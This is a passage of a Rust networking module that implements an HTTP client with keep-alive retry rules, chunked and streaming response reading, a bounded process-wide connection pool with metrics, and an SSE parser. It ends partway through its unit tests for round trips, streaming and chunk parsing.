    /// Send a request, reading the response fully (chunked bodies are
    /// reassembled).
    ///
    /// Retry policy for stale keep-alive connections: the request is
    /// resent at most once, and only when the first attempt rode a
    /// *reused* connection AND either (a) writing the request itself
    /// failed — it never committed — or (b) the peer closed the
    /// connection before sending any response byte and the method is
    /// idempotent (GET/HEAD). After a partial response, or for a
    /// committed non-idempotent request, the error surfaces instead: a
    /// blind resend could double-execute a POST.
    pub fn send(&mut self, req: &Request) -> Result<ClientResponse, HttpError> {
        let reused = self.conn.is_some();
        match self.send_once(req) {
            Ok(resp) => Ok(resp),
            Err((stage, err)) => {
                self.conn = None; // never reuse a connection that errored
                let idempotent = matches!(req.method.as_str(), "GET" | "HEAD");
                let retriable = reused
                    && match stage {
                        SendStage::RequestWrite => true,
                        SendStage::ResponseHead => {
                            idempotent && matches!(err, HttpError::EarlyClose)
                        }
                        SendStage::Connect | SendStage::ResponseBody => false,
                    };
                if !retriable {
                    return Err(err);
                }
                match self.send_once(req) {
                    Ok(resp) => Ok(resp),
                    Err((_, err)) => {
                        self.conn = None;
                        Err(err)
                    }
                }
            }
        }
    }

    fn send_once(&mut self, req: &Request) -> Result<ClientResponse, (SendStage, HttpError)> {
        let addr = self.addr.clone();
        let conn = self
            .connect()
            .map_err(|e| (SendStage::Connect, HttpError::Io(e)))?;
        write_request(conn.get_mut(), req, &addr).map_err(|e| (SendStage::RequestWrite, e))?;
        let (status, headers) =
            read_response_head(conn).map_err(|e| (SendStage::ResponseHead, e))?;
        let body = read_body(conn, &headers).map_err(|e| (SendStage::ResponseBody, e))?;
        Ok(ClientResponse {
            status,
            headers,
            body,
        })
    }

    /// Send a request and invoke `on_chunk` per chunk as it arrives (SSE
    /// streaming). Returns status + headers after the stream ends.
    pub fn send_streaming(
        &mut self,
        req: &Request,
        on_chunk: impl FnMut(&[u8]),
    ) -> Result<ClientResponse, HttpError> {
        self.send_streaming_with_head(req, |_, _| {}, on_chunk)
    }

    /// Like [`Client::send_streaming`], but invokes `on_head` with
    /// (status, headers) as soon as the response head is parsed — before
    /// any body chunk. Lets proxies forward the status line ahead of a
    /// streamed body.
    pub fn send_streaming_with_head(
        &mut self,
        req: &Request,
        mut on_head: impl FnMut(u16, &HashMap<String, String>),
        mut on_chunk: impl FnMut(&[u8]),
    ) -> Result<ClientResponse, HttpError> {
        let mut status = 0u16;
        let mut headers_out: HashMap<String, String> = HashMap::new();
        let mut body = Vec::new();
        self.send_streaming_until(
            req,
            |s, h| {
                status = s;
                headers_out = h.clone();
                on_head(s, h);
            },
            |chunk| {
                body.extend_from_slice(chunk);
                on_chunk(chunk);
                true
            },
        )?;
        Ok(ClientResponse {
            status,
            headers: headers_out,
            body,
        })
    }

    /// The cancellation-aware streaming primitive: `on_chunk` returns
    /// whether to keep reading. Returning `false` severs the connection,
    /// so the upstream hop observes a client disconnect — that TCP drop is
    /// how cancellation propagates between HTTP hops. Chunks are not
    /// accumulated (memory stays flat on long streams).
    pub fn send_streaming_until(
        &mut self,
        req: &Request,
        on_head: impl FnMut(u16, &HashMap<String, String>),
        mut on_chunk: impl FnMut(&[u8]) -> bool,
    ) -> Result<StreamOutcome, HttpError> {
        self.relay_until(req, None, on_head, |chunk| on_chunk(chunk.as_slice()))
    }

    /// The zero-copy relay primitive: like [`Client::send_streaming_until`]
    /// but chunks are delivered as *owned* [`PooledBuf`]s read into
    /// pool-recycled buffers (when `pool` is set), so a proxy hop can
    /// forward them downstream without copying or per-chunk allocation.
    /// With `pool = None` every chunk gets a fresh `Vec` (the pre-relay
    /// behaviour, kept as the ablation baseline). `on_chunk` returning
    /// `false` severs the connection so upstream sees a disconnect.
    pub fn relay_until(
        &mut self,
        req: &Request,
        pool: Option<&Arc<BufferPool>>,
        mut on_head: impl FnMut(u16, &HashMap<String, String>),
        mut on_chunk: impl FnMut(PooledBuf) -> bool,
    ) -> Result<StreamOutcome, HttpError> {
        let addr = self.addr.clone();
        // Reuse the kept-alive (possibly pool-issued) connection when one
        // is present; dial otherwise.
        let reused = self.conn.is_some();
        let mut conn = match self.conn.take() {
            Some(c) => c,
            None => self.dial()?,
        };
        if let Err(e) = write_request(conn.get_mut(), req, &addr) {
            // The request never committed, so one fresh dial is safe even
            // for a POST. Any later failure surfaces instead: streamed
            // requests are typically non-idempotent.
            if !reused {
                return Err(e);
            }
            conn = self.dial()?;
            write_request(conn.get_mut(), req, &addr)?;
        }
        let (status, headers) = read_response_head(&mut conn)?;
        on_head(status, &headers);
        let chunked = headers
            .get("transfer-encoding")
            .map(|v| v.eq_ignore_ascii_case("chunked"))
            .unwrap_or(false);
        if !chunked {
            // Not a streamable body: fall back to one buffered chunk.
            let body = read_body(&mut conn, &headers)?;
            on_chunk(PooledBuf::from(body));
            self.conn = Some(conn);
            return Ok(StreamOutcome::Complete);
        }
        let mut line_buf: Vec<u8> = Vec::with_capacity(16);
        loop {
            let mut chunk = match pool {
                Some(pool) => pool.take(),
                None => PooledBuf::from(Vec::new()),
            };
            match read_chunk_into(&mut conn, &mut line_buf, chunk.vec_mut())? {
                None => {
                    // Clean end: the connection is reusable.
                    self.conn = Some(conn);
                    return Ok(StreamOutcome::Complete);
                }
                Some(_) => {
                    if !on_chunk(chunk) {
                        // Dropping `conn` closes the socket mid-stream: the
                        // upstream's next write fails and its cancel token
                        // trips.
                        return Ok(StreamOutcome::Aborted);
                    }
                }
            }
        }
    }
}

/// Read one chunked-transfer chunk into `buf` (cleared first). Returns
/// `Ok(None)` after the terminal zero-length chunk (its trailing CRLF
/// consumed), `Ok(Some(len))` otherwise. `line_buf` is reusable scratch
/// for the size line, so the steady state allocates nothing. Handles size
/// lines and CRLFs split across socket reads (both go through `BufRead`,
/// which refills mid-token), strips chunk extensions, and rejects chunks
/// larger than [`MAX_CHUNK_BYTES`].
pub(crate) fn read_chunk_into<R: BufRead>(
    reader: &mut R,
    line_buf: &mut Vec<u8>,
    buf: &mut Vec<u8>,
) -> Result<Option<usize>, HttpError> {
    line_buf.clear();
    let n = reader.read_until(b'\n', line_buf)?;
    if n == 0 {
        return Err(HttpError::BadResponse("eof before chunk size".into()));
    }
    let line = std::str::from_utf8(line_buf)
        .map_err(|_| HttpError::BadResponse("bad chunk size".into()))?;
    // Strip any chunk extension (`;...`) and surrounding CR/LF/space.
    let size_str = line.split(';').next().unwrap_or("").trim();
    let size = usize::from_str_radix(size_str, 16)
        .map_err(|_| HttpError::BadResponse("bad chunk size".into()))?;
    if size > MAX_CHUNK_BYTES {
        return Err(HttpError::BadResponse("chunk too large".into()));
    }
    if size == 0 {
        // Trailing CRLF after the last chunk.
        line_buf.clear();
        reader.read_until(b'\n', line_buf)?;
        return Ok(None);
    }
    buf.clear();
    buf.resize(size, 0);
    reader.read_exact(buf)?;
    let mut crlf = [0u8; 2];
    reader.read_exact(&mut crlf)?;
    Ok(Some(size))
}

/// How [`Client::send_streaming_until`] ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StreamOutcome {
    /// Upstream terminated the stream normally.
    Complete,
    /// `on_chunk` asked to stop; the connection was severed so upstream
    /// sees a disconnect.
    Aborted,
}

fn write_request<W: Write>(writer: &mut W, req: &Request, host: &str) -> Result<(), HttpError> {
    let target = if req.query.is_empty() {
        req.path.clone()
    } else {
        format!("{}?{}", req.path, req.query)
    };
    let mut head = format!("{} {} HTTP/1.1\r\nhost: {}\r\n", req.method, target, host);
    for (k, v) in &req.headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    head.push_str(&format!("content-length: {}\r\n\r\n", req.body.len()));
    writer.write_all(head.as_bytes())?;
    writer.write_all(&req.body)?;
    writer.flush()?;
    Ok(())
}

fn read_response_head<R: BufRead>(
    reader: &mut R,
) -> Result<(u16, HashMap<String, String>), HttpError> {
    let mut line = String::new();
    let n = reader.read_line(&mut line)?;
    if n == 0 {
        return Err(HttpError::EarlyClose);
    }
    let mut parts = line.trim_end().splitn(3, ' ');
    let _version = parts.next();
    let status: u16 = parts
        .next()
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| HttpError::BadResponse(format!("bad status line: {line}")))?;
    let headers = read_headers(reader).map_err(|e| match e {
        HttpError::BadRequest(m) => HttpError::BadResponse(m),
        other => other,
    })?;
    Ok((status, headers))
}

// ---------------------------------------------------------------------------
// Process-wide connection pool
// ---------------------------------------------------------------------------

/// Sizing and lifecycle knobs for [`HttpPool`] — the `[http]` config
/// section threads through here.
#[derive(Debug, Clone)]
pub struct HttpPoolConfig {
    /// Connections (idle + checked out) allowed per `(host, port)` peer.
    pub max_per_peer: usize,
    /// Global connection cap across all peers.
    pub max_total: usize,
    /// Idle connections older than this are closed by the sweep.
    pub idle_ttl: Duration,
    /// How long a checkout waits for a slot when the peer is at its cap
    /// before giving up with [`HttpError::PoolExhausted`].
    pub checkout_timeout: Duration,
    /// `false` turns reuse off: every checkout dials fresh and nothing is
    /// retained (the connection-pool ablation baseline).
    pub enabled: bool,
}

impl Default for HttpPoolConfig {
    fn default() -> HttpPoolConfig {
        HttpPoolConfig {
            max_per_peer: 128,
            max_total: 1024,
            // Below the server side's 30 s keep-alive read timeout, so the
            // pool retires idle connections before peers close them.
            idle_ttl: Duration::from_secs(25),
            checkout_timeout: Duration::from_secs(10),
            enabled: true,
        }
    }
}

/// An idle keep-alive connection parked in the pool.
struct IdleConn {
    conn: BufReader<TcpStream>,
    since: Instant,
}

/// One peer's slice of the pool: parked connections, the slot count
/// (checked out + idle) that the caps bound, and per-peer counters for
/// `/metrics`.
#[derive(Default)]
struct PeerPool {
    /// Parked connections, oldest first (checkout pops the newest — the
    /// least likely to have been closed by the peer).
    idle: Vec<IdleConn>,
    /// Open slots: checked-out guards plus parked idle connections.
    open: usize,
    hits: u64,
    misses: u64,
    evictions: u64,
    recycles: u64,
}

struct PoolState {
    peers: HashMap<String, PeerPool>,
    total_open: usize,
    config: HttpPoolConfig,
}

/// Process-wide keep-alive connection pool keyed by `(host, port)`.
///
/// Checkout hands out an RAII [`PooledConn`] guard (deref: [`Client`]);
/// dropping the guard returns a clean connection to the pool, while a
/// connection that errored — or carried a cancelled/failed stream — is
/// discarded, never re-queued ("recycle on error"). Streaming checkouts
/// return the connection only after the body drained cleanly, because
/// [`Client::relay_until`] re-caches the connection only on
/// [`StreamOutcome::Complete`].
///
/// Bounded per peer and globally: a checkout beyond the caps blocks until
/// a slot frees (or [`HttpPoolConfig::checkout_timeout`] passes), so the
/// open-socket count across N worker threads × M peers stays ≤ the caps —
/// the seed's thread-local cache grew with thread count instead.
pub struct HttpPool {
    state: Mutex<PoolState>,
    slot_freed: std::sync::Condvar,
}

impl HttpPool {
    pub fn new(config: HttpPoolConfig) -> Arc<HttpPool> {
        Arc::new(HttpPool {
            state: Mutex::new(PoolState {
                peers: HashMap::new(),
                total_open: 0,
                config,
            }),
            slot_freed: std::sync::Condvar::new(),
        })
    }

    /// Swap in new sizing (the coordinators thread `[http]` through
    /// here). Shrunken caps apply to future checkouts; surplus idle
    /// connections fall to the next sweep.
    pub fn configure(&self, config: HttpPoolConfig) {
        self.state.lock().unwrap().config = config;
        self.slot_freed.notify_all();
    }

    /// Check out a connection to `addr`, reusing a parked keep-alive
    /// connection when a live one exists. Blocks up to the configured
    /// checkout timeout when the peer (or the pool) is at its cap.
    pub fn checkout(self: &Arc<HttpPool>, addr: &str) -> Result<PooledConn, HttpError> {
        let peer = addr.trim_start_matches("http://").to_string();
        let mut state = self.state.lock().unwrap();
        if !state.config.enabled {
            // Ablation baseline: fresh unpooled connection, nothing kept.
            state.peers.entry(peer.clone()).or_default().misses += 1;
            return Ok(PooledConn {
                client: Some(Client::new(&peer)),
                pool: None,
                peer,
            });
        }
        let deadline = Instant::now() + state.config.checkout_timeout;
        loop {
            let ttl = state.config.idle_ttl;
            let (max_per_peer, max_total) = (state.config.max_per_peer, state.config.max_total);
            // Try a parked connection first, newest first; expired or
            // dead ones are evicted on the way.
            let mut freed = 0usize;
            let mut parked: Option<BufReader<TcpStream>> = None;
            {
                let p = state.peers.entry(peer.clone()).or_default();
                while let Some(ic) = p.idle.pop() {
                    if ic.since.elapsed() < ttl && conn_is_live(&ic.conn) {
                        p.hits += 1;
                        parked = Some(ic.conn);
                        break;
                    }
                    p.evictions += 1;
                    p.open -= 1;
                    freed += 1;
                }
            }
            state.total_open -= freed;
            if freed > 0 {
                self.slot_freed.notify_all();
            }
            if let Some(conn) = parked {
                let mut client = Client::new(&peer);
                client.conn = Some(conn);
                return Ok(PooledConn {
                    client: Some(client),
                    pool: Some(self.clone()),
                    peer,
                });
            }
            // No parked connection: claim a fresh slot if the caps allow.
            let peer_open = state.peers.get(&peer).map(|p| p.open).unwrap_or(0);
            if peer_open < max_per_peer {
                if state.total_open >= max_total {
                    // Idle connections parked elsewhere must not starve an
                    // active peer: reclaim the globally oldest one.
                    Self::reclaim_idle_locked(&mut state, &peer);
                }
                if state.total_open < max_total {
                    let p = state.peers.entry(peer.clone()).or_default();
                    p.open += 1;
                    p.misses += 1;
                    state.total_open += 1;
                    // The dial happens lazily on first use; a client that
                    // never connects is discarded at checkin, freeing the
                    // slot.
                    return Ok(PooledConn {
                        client: Some(Client::new(&peer)),
                        pool: Some(self.clone()),
                        peer,
                    });
                }
            }
            let now = Instant::now();
            if now >= deadline {
                return Err(HttpError::PoolExhausted(peer));
            }
            let (guard, _) = self
                .slot_freed
                .wait_timeout(state, deadline - now)
                .unwrap();
            state = guard;
        }
    }

    /// Drop the globally oldest parked connection of any *other* peer to
    /// free a slot under the global cap.
    fn reclaim_idle_locked(state: &mut PoolState, wanting: &str) {
        let victim = state
            .peers
            .iter()
            .filter(|(name, p)| name.as_str() != wanting && !p.idle.is_empty())
            .min_by_key(|(_, p)| p.idle[0].since)
            .map(|(name, _)| name.clone());
        if let Some(name) = victim {
            let p = state.peers.get_mut(&name).unwrap();
            p.idle.remove(0);
            p.evictions += 1;
            p.open -= 1;
            state.total_open -= 1;
        }
    }

    /// Return a guard's connection. `conn` is `None` when the connection
    /// errored, streamed uncleanly, or was never dialed — those discard
    /// the slot instead of re-queuing a poisoned connection.
    fn checkin(&self, peer: &str, conn: Option<BufReader<TcpStream>>) {
        let mut state = self.state.lock().unwrap();
        let enabled = state.config.enabled;
        let mut freed = false;
        {
            let Some(p) = state.peers.get_mut(peer) else {
                return;
            };
            match conn {
                Some(c) if enabled => p.idle.push(IdleConn {
                    conn: c,
                    since: Instant::now(),
                }),
                Some(_) => {
                    // Pool was disabled while this guard was out: drop.
                    p.evictions += 1;
                    p.open = p.open.saturating_sub(1);
                    freed = true;
                }
                None => {
                    p.recycles += 1;
                    p.open = p.open.saturating_sub(1);
                    freed = true;
                }
            }
        }
        if freed {
            state.total_open = state.total_open.saturating_sub(1);
        }
        drop(state);
        self.slot_freed.notify_one();
    }

    /// Close idle connections past the TTL. The process-wide pool runs
    /// this on a background thread; tests call it directly. Peer entries
    /// are kept (their counters outlive their connections).
    pub fn sweep(&self) {
        let mut state = self.state.lock().unwrap();
        let ttl = state.config.idle_ttl;
        let mut freed = 0usize;
        for p in state.peers.values_mut() {
            let before = p.idle.len();
            p.idle.retain(|ic| ic.since.elapsed() < ttl);
            let dropped = before - p.idle.len();
            p.evictions += dropped as u64;
            p.open = p.open.saturating_sub(dropped);
            freed += dropped;
        }
        state.total_open = state.total_open.saturating_sub(freed);
        if freed > 0 {
            drop(state);
            self.slot_freed.notify_all();
        }
    }

    /// Open slots (checked out + idle) across all peers.
    pub fn open_connections(&self) -> usize {
        self.state.lock().unwrap().total_open
    }

    /// Open slots for one peer (`addr` with or without `http://`).
    pub fn peer_open(&self, addr: &str) -> usize {
        let peer = addr.trim_start_matches("http://");
        self.state
            .lock()
            .unwrap()
            .peers
            .get(peer)
            .map(|p| p.open)
            .unwrap_or(0)
    }

    /// Parked idle connections across all peers.
    pub fn idle_connections(&self) -> usize {
        let state = self.state.lock().unwrap();
        state.peers.values().map(|p| p.idle.len()).sum()
    }

    /// Checkouts served from a parked connection, across all peers.
    pub fn hits(&self) -> u64 {
        let state = self.state.lock().unwrap();
        state.peers.values().map(|p| p.hits).sum()
    }

    /// Checkouts that had to claim a fresh slot, across all peers.
    pub fn misses(&self) -> u64 {
        let state = self.state.lock().unwrap();
        state.peers.values().map(|p| p.misses).sum()
    }

    /// Idle/stale connections the pool closed, across all peers.
    pub fn evictions(&self) -> u64 {
        let state = self.state.lock().unwrap();
        state.peers.values().map(|p| p.evictions).sum()
    }

    /// Poisoned connections discarded at checkin, across all peers.
    pub fn recycles(&self) -> u64 {
        let state = self.state.lock().unwrap();
        state.peers.values().map(|p| p.recycles).sum()
    }

    /// Per-peer pool counters and gauges in Prometheus text exposition.
    pub fn prometheus_text(&self) -> String {
        use std::fmt::Write as _;
        let state = self.state.lock().unwrap();
        let mut names: Vec<&String> = state.peers.keys().collect();
        names.sort();
        let mut out = String::new();
        for name in names {
            let p = &state.peers[name.as_str()];
            let _ = writeln!(out, "http_pool_hits_total{{peer=\"{name}\"}} {}", p.hits);
            let _ = writeln!(out, "http_pool_misses_total{{peer=\"{name}\"}} {}", p.misses);
            let _ = writeln!(
                out,
                "http_pool_evictions_total{{peer=\"{name}\"}} {}",
                p.evictions
            );
            let _ = writeln!(
                out,
                "http_pool_recycled_total{{peer=\"{name}\"}} {}",
                p.recycles
            );
            let _ = writeln!(out, "http_pool_open{{peer=\"{name}\"}} {}", p.open);
            let _ = writeln!(out, "http_pool_idle{{peer=\"{name}\"}} {}", p.idle.len());
        }
        let _ = writeln!(out, "http_pool_open_total {}", state.total_open);
        out
    }
}

/// Cheap staleness probe on an idle pooled connection: a closed peer
/// shows EOF (or an error) on a non-blocking peek, a healthy idle
/// keep-alive connection shows `WouldBlock`. Unread buffered bytes mean
/// the previous response was not fully drained — dirty either way.
fn conn_is_live(conn: &BufReader<TcpStream>) -> bool {
    if !conn.buffer().is_empty() {
        return false;
    }
    let stream = conn.get_ref();
    if stream.set_nonblocking(true).is_err() {
        return false;
    }
    let mut probe = [0u8; 1];
    let live = matches!(
        stream.peek(&mut probe),
        Err(ref e) if e.kind() == std::io::ErrorKind::WouldBlock
    );
    stream.set_nonblocking(false).is_ok() && live
}

/// RAII guard for a pooled connection: derefs to [`Client`], so the full
/// send/streaming API is available; dropping it checks the connection
/// back in. Only a connection left in a clean keep-alive state is
/// re-queued — after a transport error, an aborted stream, or an explicit
/// [`PooledConn::discard`], the socket is closed and the slot freed.
pub struct PooledConn {
    client: Option<Client>,
    /// `None` for unpooled guards (pool disabled): drop closes the socket.
    pool: Option<Arc<HttpPool>>,
    peer: String,
}

impl PooledConn {
    /// The `host:port` this guard is pinned to.
    pub fn peer(&self) -> &str {
        &self.peer
    }

    /// Mark the connection unreusable; checkin will discard it.
    pub fn discard(&mut self) {
        if let Some(c) = self.client.as_mut() {
            c.conn = None;
        }
    }
}

impl std::ops::Deref for PooledConn {
    type Target = Client;
    fn deref(&self) -> &Client {
        self.client.as_ref().expect("client present until drop")
    }
}

impl std::ops::DerefMut for PooledConn {
    fn deref_mut(&mut self) -> &mut Client {
        self.client.as_mut().expect("client present until drop")
    }
}

impl Drop for PooledConn {
    fn drop(&mut self) {
        let conn = self.client.take().and_then(|mut c| c.conn.take());
        if let Some(pool) = self.pool.take() {
            pool.checkin(&self.peer, conn);
        }
    }
}

/// The process-wide pool behind [`pooled`] checkouts. Every proxy hop in
/// the stack (gateway, federation router, cloud interface, auth, webapp)
/// shares it, so keep-alive reuse crosses worker threads and the
/// open-socket count stays bounded by the `[http]` caps. A background
/// thread sweeps expired idle connections.
pub fn http_pool() -> Arc<HttpPool> {
    static POOL: OnceLock<Arc<HttpPool>> = OnceLock::new();
    POOL.get_or_init(|| {
        let pool = HttpPool::new(HttpPoolConfig::default());
        let sweeper = pool.clone();
        std::thread::Builder::new()
            .name("http-pool-sweep".into())
            .spawn(move || loop {
                let interval = {
                    let ttl = sweeper.state.lock().unwrap().config.idle_ttl;
                    (ttl / 2).clamp(Duration::from_millis(100), Duration::from_secs(5))
                };
                std::thread::sleep(interval);
                sweeper.sweep();
            })
            .ok();
        pool
    })
    .clone()
}

/// Check a keep-alive connection to `addr` out of the process-wide pool
/// (the redesigned replacement for the old closure-style
/// `with_pooled_client`). The returned guard derefs to [`Client`];
/// dropping it returns a clean connection to the pool.
pub fn pooled(addr: &str) -> Result<PooledConn, HttpError> {
    http_pool().checkout(addr)
}

/// Parse SSE `data:` payloads out of a raw byte stream fragment accumulator.
/// Feed chunks; yields complete event datas.
#[derive(Default)]
pub struct SseParser {
    buf: String,
    /// Comment lines seen (`: heartbeat` keep-alives are SSE comments).
    pub comments: u64,
    /// `event:` names seen (e.g. terminal `error` events).
    pub event_names: Vec<String>,
}

impl SseParser {
    pub fn new() -> SseParser {
        SseParser::default()
    }

    /// Push raw bytes; returns the `data:` payloads of any completed events.
    pub fn push(&mut self, bytes: &[u8]) -> Vec<String> {
        self.buf.push_str(&String::from_utf8_lossy(bytes));
        let mut out = Vec::new();
        while let Some(idx) = self.buf.find("\n\n") {
            let event: String = self.buf[..idx].to_string();
            self.buf.drain(..idx + 2);
            for line in event.lines() {
                if let Some(data) = line.strip_prefix("data:") {
                    out.push(data.trim_start().to_string());
                } else if let Some(name) = line.strip_prefix("event:") {
                    self.event_names.push(name.trim().to_string());
                } else if line.starts_with(':') {
                    self.comments += 1;
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::json::Json;

    fn echo_server() -> Server {
        Server::serve(
            "127.0.0.1:0",
            "echo",
            2,
            Arc::new(|req: &Request| {
                let body = format!(
                    "{} {} q={} len={}",
                    req.method,
                    req.path,
                    req.query,
                    req.body.len()
                );
                Response::text(200, body)
            }),
        )
        .unwrap()
    }

    #[test]
    fn get_roundtrip() {
        let server = echo_server();
        let mut client = Client::new(&server.url());
        let resp = client.get("/hello?a=1").unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.body_str(), "GET /hello q=a=1 len=0");
    }

    #[test]
    fn post_json_roundtrip() {
        let server = Server::serve(
            "127.0.0.1:0",
            "json",
            2,
            Arc::new(|req: &Request| {
                let v = crate::util::json::parse(&req.body_str()).unwrap();
                Response::json(200, &Json::obj().set("model", v.str_field("model").unwrap()))
            }),
        )
        .unwrap();
        let mut client = Client::new(&server.url());
        let resp = client
            .post_json("/v1/chat", &Json::obj().set("model", "llama"))
            .unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.json().unwrap().str_field("model"), Some("llama"));
    }

    #[test]
    fn keep_alive_reuses_connection() {
        let server = echo_server();
        let mut client = Client::new(&server.url());
        for i in 0..20 {
            let resp = client.get(&format!("/r{i}")).unwrap();
            assert_eq!(resp.status, 200);
        }
    }

    #[test]
    fn streaming_chunks_arrive_incrementally() {
        let server = Server::serve(
            "127.0.0.1:0",
            "stream",
            2,
            Arc::new(|_req: &Request| {
                let (resp, tx) = Response::stream(200, 8);
                std::thread::spawn(move || {
                    for i in 0..5 {
                        tx.send(format!("tok{i};").into_bytes().into()).unwrap();
                    }
                });
                resp
            }),
        )
        .unwrap();
        let mut client = Client::new(&server.url());
        let mut chunks = Vec::new();
        let resp = client
            .send_streaming(&Request::new("GET", "/s"), |c| {
                chunks.push(String::from_utf8_lossy(c).to_string())
            })
            .unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.body_str(), "tok0;tok1;tok2;tok3;tok4;");
        assert!(chunks.len() >= 2, "expected incremental chunks: {chunks:?}");
    }

    #[test]
    fn sse_parser_extracts_events() {
        let mut p = SseParser::new();
        let first = p.push(b"data: {\"a\":1}\n\ndata: {\"b\"");
        assert_eq!(first, vec!["{\"a\":1}".to_string()]);
        let second = p.push(b":2}\n\n");
        assert_eq!(second, vec!["{\"b\":2}".to_string()]);
    }

    #[test]
    fn error_response_shape() {
        let resp = Response::error(429, "rate limited");
        match &resp.body {
            Body::Full(b) => {
                let v = crate::util::json::parse(&String::from_utf8_lossy(b)).unwrap();
                let err = v.get("error").unwrap();
                assert_eq!(err.str_field("message"), Some("rate limited"));
                assert_eq!(err.str_field("type"), Some("rate_limit_error"));
                assert_eq!(err.u64_field("code"), Some(429));
            }
            _ => panic!("expected full body"),
        }
    }

    #[test]
    fn api_error_preserves_trace_and_retry_after() {
        let resp = Response::api_error(503, "draining", Some("t-123"), Some("7"));
        assert_eq!(resp.header("retry-after"), Some("7"));
        match &resp.body {
            Body::Full(b) => {
                let v = crate::util::json::parse(&String::from_utf8_lossy(b)).unwrap();
                let err = v.get("error").unwrap();
                assert_eq!(err.str_field("type"), Some("server_error"));
                assert_eq!(err.str_field("trace"), Some("t-123"));
            }
            _ => panic!("expected full body"),
        }
    }

    #[test]
    fn sse_error_event_shape() {
        let frame = Response::sse_error_event("upstream died", "upstream_error", Some("t-9"));
        let text = String::from_utf8(frame).unwrap();
        assert!(text.starts_with("event: error\n"), "{text}");
        let data = text.lines().nth(1).unwrap().strip_prefix("data: ").unwrap();
        let v = crate::util::json::parse(data).unwrap();
        let err = v.get("error").unwrap();
        assert_eq!(err.str_field("message"), Some("upstream died"));
        assert_eq!(err.str_field("code"), Some("upstream_error"));
        assert_eq!(err.str_field("trace"), Some("t-9"));
    }

    #[test]
    fn rejects_oversized_body() {
        let server = echo_server();
        let addr = server.addr();
        let mut stream = TcpStream::connect(addr).unwrap();
        let head = format!(
            "POST / HTTP/1.1\r\nhost: x\r\ncontent-length: {}\r\n\r\n",
            MAX_BODY_BYTES + 1
        );
        stream.write_all(head.as_bytes()).unwrap();
        let mut reader = BufReader::new(stream);
        let (status, _) = read_response_head(&mut reader).unwrap();
        assert_eq!(status, 400);
    }

    #[test]
    fn malformed_request_line_is_400() {
        let server = echo_server();
        let mut stream = TcpStream::connect(server.addr()).unwrap();
        stream.write_all(b"NONSENSE\r\n\r\n").unwrap();
        let mut reader = BufReader::new(stream);
        let (status, _) = read_response_head(&mut reader).unwrap();
        assert_eq!(status, 400);
    }

    #[test]
    fn concurrent_clients() {
        let server = echo_server();
        let url = server.url();
        let mut handles = Vec::new();
        for _ in 0..8 {
            let url = url.clone();
            handles.push(std::thread::spawn(move || {
                let mut client = Client::new(&url);
                for _ in 0..20 {
                    assert_eq!(client.get("/x").unwrap().status, 200);
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
    }

    #[test]
    fn server_stop_unblocks() {
        let mut server = echo_server();
        server.stop();
        // second stop is a no-op
        server.stop();
    }

    #[test]
    fn wants_stream_requires_a_true_json_field() {
        let req = |body: &str| Request::new("POST", "/x").with_body(body.as_bytes().to_vec());
        assert!(req(r#"{"stream":true}"#).wants_stream());
        assert!(req(r#"{ "max_tokens": 5, "stream" : true }"#).wants_stream());
        assert!(req("\n  {\"stream\": true}").wants_stream(), "leading whitespace");
        assert!(!req(r#"{"stream":false}"#).wants_stream());
        assert!(!req(r#"{"stream":"true"}"#).wants_stream(), "string is not bool");
        assert!(!req(r#"{"messages":[{"content":"say \"stream\":true"}]}"#).wants_stream());
        assert!(!req("not json \"stream\" at all").wants_stream());
        assert!(!req("").wants_stream());
    }

    #[test]
    fn heartbeats_cover_idle_producer_gaps() {
        let server = Server::serve(
            "127.0.0.1:0",
            "hb",
            2,
            Arc::new(|_req: &Request| {
                let (resp, tx) = Response::sse(4);
                std::thread::spawn(move || {
                    // Idle "prefill" phase, then one real event.
                    std::thread::sleep(Duration::from_millis(150));
                    let _ = tx.send(b"data: tok\n\n".to_vec().into());
                });
                resp.with_heartbeat(Duration::from_millis(25))
            }),
        )
        .unwrap();
        let mut client = Client::new(&server.url());
        let mut sse = SseParser::new();
        let mut events = Vec::new();
        client
            .send_streaming(&Request::new("GET", "/s"), |c| {
                events.extend(sse.push(c));
            })
            .unwrap();
        assert_eq!(events, vec!["tok".to_string()]);
        assert!(sse.comments >= 2, "expected heartbeats, saw {}", sse.comments);
    }

    /// Hands bytes to the reader one at a time, so every multi-byte token
    /// (size line, CRLF, payload) straddles a read boundary.
    struct Dribble<'a> {
        data: &'a [u8],
        pos: usize,
    }

    impl Read for Dribble<'_> {
        fn read(&mut self, out: &mut [u8]) -> std::io::Result<usize> {
            if self.pos >= self.data.len() || out.is_empty() {
                return Ok(0);
            }
            out[0] = self.data[self.pos];
            self.pos += 1;
            Ok(1)
        }
    }

    fn read_all_chunks(raw: &[u8]) -> Result<Vec<Vec<u8>>, HttpError> {
        let mut reader = BufReader::with_capacity(2, Dribble { data: raw, pos: 0 });
        let mut line_buf = Vec::new();
        let mut buf = Vec::new();
        let mut out = Vec::new();
        while read_chunk_into(&mut reader, &mut line_buf, &mut buf)?.is_some() {
            out.push(buf.clone());
        }
        Ok(out)
    }

    #[test]
    fn chunk_reader_survives_split_size_lines_and_straddled_crlf() {
        // 1-byte reads through a 2-byte BufReader: the "1a" size line, the
        // payload and every CRLF all straddle buffer refills.
        let raw = b"1a\r\nabcdefghijklmnopqrstuvwxyz\r\n3\r\nxyz\r\n0\r\n\r\n";
        let chunks = read_all_chunks(raw).unwrap();
        assert_eq!(chunks.len(), 2);
        assert_eq!(chunks[0], b"abcdefghijklmnopqrstuvwxyz");
        assert_eq!(chunks[1], b"xyz");
    }

    #[test]
    fn chunk_reader_handles_zero_length_terminal_and_extensions() {
        // A chunk extension after the size, then the terminal chunk.
        let chunks = read_all_chunks(b"5;ext=1\r\nhello\r\n0\r\n\r\n").unwrap();
        assert_eq!(chunks, vec![b"hello".to_vec()]);
        // An immediately terminal stream yields no chunks.
        assert!(read_all_chunks(b"0\r\n\r\n").unwrap().is_empty());
    }

    #[test]
    fn chunk_reader_rejects_oversized_and_garbage_sizes() {
        let huge = format!("{:x}\r\n", MAX_CHUNK_BYTES + 1);
        let err = read_all_chunks(huge.as_bytes()).unwrap_err();
